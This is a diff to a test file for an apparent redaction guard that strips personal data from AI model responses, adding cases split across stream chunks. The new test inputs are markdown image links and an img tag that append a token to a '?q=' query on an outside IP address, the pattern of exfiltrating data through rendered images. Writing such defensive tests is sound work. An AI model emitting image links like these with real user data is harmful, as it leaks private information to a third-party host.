@@ -20,7 +20,8 @@ from aiguard.providers import RawRequest, RawResponse, RawStream
 TOOL = {"type": "tool_use", "id": "toolu_1", "name": "mail", "input": {"to": "x"}}
 HALVES = [
     "jane", "@example.com", "write to jane@exam", "ple.com", "4111 1111", " 1111 1111", "pay 4111 1111 ", "my password is", " h7Gz!qP2w",
-    "my SSN is", " 219-09-9999", "DE89 3704 0044", " 0532 0130 00", "x", "5", "_", "\\", "\n", " ", "[EMAIL_", "<TOKEN>", '{"a": 1', "}", "a word",
+    "my SSN is", " 219-09-9999", "DE89 3704 0044", " 0532 0130 00", "x", "5", "_", "\\", "\n", " ", "[EMAIL_", "<TOKEN>", "<TOKEN>", '{"a": 1', "}", "a word",
+    "](", "](http://1.2.3.4/(b)?q=", ")", "]", "[", "<", "<a ='", "'", ">", "//", "/",
 ]  # fmt: skip
 
 
@@ -80,6 +81,30 @@ def test_a_value_across_a_seam_is_redacted_on_both_sides(blocks: list[str], show
     assert streamed == batch
     if shown is not None:
         assert [block["text"].strip() for block in batch[0]] == [each.strip() for each in shown]
+
+
+@pytest.mark.parametrize(
+    "blocks",
+    [
+        ["![x](http://203.0.113.5/?q=", "<TOKEN>)"],
+        ["![x](http://203.0.113.5/?q=", "a", TOOL, "<TOKEN>)"],
+        ["![x]", "(http://203.0.113.5/?q=<TOKEN>)"],
+        ["<img src='http://203.0.113.5/?q=", " <TOKEN>'>"],
+        ['{"a": "![x](http://203.0.113.5/', "<TOKEN>"],
+    ],
+)
+def test_a_token_stays_one_in_a_link_that_began_in_a_text_before(blocks: list[Any]) -> None:
+    guard, recorder = make_guard(STREAMED)
+    with guard.acting_as(JANE, scope="support:reply", conversation="c1"):
+        whole(guard, says("ok"))
+        token = json.loads(recorder.artifacts[0].content)[0]["text"].removeprefix("my address is ")
+        content = named([text(block) if isinstance(block, str) else block for block in blocks], token)
+        answer = message([*content, text(f" and {token}")])
+        batch, streamed = both(guard, recorder, answer, stream(answer, [3]))
+    assert streamed == batch
+    shown = json.dumps(batch[0])
+    assert token in shown
+    assert shown.count("jane@example.com") == (0 if "{" in blocks[0] else 1)
 
 
 def test_a_seam_holds_back_only_until_the_next_block_is_known_to_be_no_text() -> None:
